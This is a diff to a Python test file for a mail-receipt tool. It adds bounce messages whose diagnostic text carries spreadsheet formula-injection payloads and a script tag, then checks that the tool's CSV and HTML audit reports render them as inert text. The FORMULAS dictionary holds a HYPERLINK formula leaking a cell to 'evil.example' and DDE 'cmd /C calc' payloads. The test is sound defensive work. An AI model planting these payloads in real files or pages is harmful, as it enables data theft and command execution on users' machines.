@@ -13,6 +13,8 @@ multipart 100 and 1000 deep, a 50 MB part, huge headers and regex-hostile text (
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
 import random
 import subprocess
@@ -34,6 +36,7 @@ from relcomm_tui.plan.loader import load_plan
 from relcomm_tui.receipts import parse
 from relcomm_tui.receipts.parse import KINDS, parse_message, report_to_json
 from relcomm_tui.receipts.refresh import refresh
+from relcomm_tui.report import collect, render
 from test_bounce_corpus import corpus_dir
 
 # Bounds, not benchmarks: a corpus message takes ~2 ms (the slowest ~15 ms), the biggest
@@ -473,6 +476,23 @@ def hostile_messages() -> list[tuple[str, bytes]]:
     return out
 
 
+FORMULAS = {  # what a stranger's bounce may say, as the first thing in its diagnostic
+    "alice@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
+    "carol@example.com": "+cmd|' /C calc'!A0",
+    "dave@example.com": "@SUM(1+1)*cmd|' /C calc'!A0<script>alert(1)</script>",
+}
+
+
+def bounce_saying(envid: str, address: str, diagnostic: str) -> bytes:
+    """A failure DSN for one of our deliveries (by its ENVID) whose only reason is `diagnostic`."""
+    return (f"From: MAILER-DAEMON@mx.example.org\r\nTo: receipts@orion.example.com\r\n"
+            f"Subject: Undelivered Mail\r\nMessage-ID: <hostile.{address}>\r\nMIME-Version: 1.0\r\n"
+            f"Content-Type: multipart/report; report-type=delivery-status; boundary=R\r\n\r\n"
+            f"--R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.org\r\n"
+            f"Original-Envelope-Id: {envid}\r\n\r\nFinal-Recipient: rfc822; {address}\r\nAction: failed\r\n"
+            f"Diagnostic-Code: x-hostile; {diagnostic}\r\n\r\n--R--\r\n").encode()
+
+
 @pytest.mark.campaign
 @pytest.mark.slow
 async def test_refresh_goes_on_through_hostile_messages(tmp_path):
@@ -486,21 +506,38 @@ async def test_refresh_goes_on_through_hostile_messages(tmp_path):
     plan = load_plan(plan_path)
     start = time.perf_counter()
     with Ledger.open(state) as ledger:
+        envids = {d.recipient_key: d.id for d in ledger.deliveries("4.2.0") if d.recipient_key in FORMULAS}
+        assert len(envids) == len(FORMULAS)
+        for address, formula in FORMULAS.items():
+            add_to_maildir(maildir, bounce_saying(envids[address], address, formula))
         result = refresh(plan, ledger)
         seconds = time.perf_counter() - start
         seen = ledger.seen_keys(f"maildir:{maildir}")
         again = refresh(plan, ledger)
         receipts = ledger.receipts()
+        record = collect(plan, ledger)
+
+    # strangers' words reach the audit record as text: never a spreadsheet formula, never markup
+    cells = [cell for row in csv.reader(io.StringIO(render(record, "csv"))) for cell in row]
+    page = render(record, "html")
+    formula_cells = [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    shown = [f for f in FORMULAS.values() if any(f in c for c in cells)]
+    campaign.record("input", "inbound: spreadsheet formulas and markup in bounce text", tried=len(FORMULAS) + 1,
+                    held=len(FORMULAS) - len(formula_cells) + ("<script>" not in page))
+    assert len(shown) == len(FORMULAS), "each hostile reason is in the record (as text)"
+    assert formula_cells == []
+    assert "<script>" not in page and "&lt;script&gt;" in page
 
     hostile_kept = sum(1 for key in keys if key in seen)  # remembered: never read again
     skipped_keys = {line.split(" ", 2)[1].rstrip(":") for line in result.skipped}
     # every hostile message the parser called broken is reported, by key, in the refresh result
-    held = hostile_kept if (result.problems == [] and result.matched == good and again.read == 0) else 0
+    held = hostile_kept if (result.problems == [] and result.matched == good + len(FORMULAS)
+                            and again.read == 0) else 0
     campaign.record("input", "inbound: refresh of a Maildir with hostile messages", tried=len(hostile), held=held,
-                    losses=good - result.matched)
+                    losses=good + len(FORMULAS) - result.matched)
     assert result.problems == []
-    assert result.read == good + len(hostile)
-    assert result.matched == good, result  # every real report still correlated
+    assert result.read == good + len(hostile) + len(FORMULAS)
+    assert result.matched == good + len(FORMULAS), result  # every real report still correlated
     assert len([r for r in receipts if r["delivery_id"] is not None]) >= good
     assert hostile_kept == len(hostile)
     assert again.read == 0 and again.new_receipts == 0
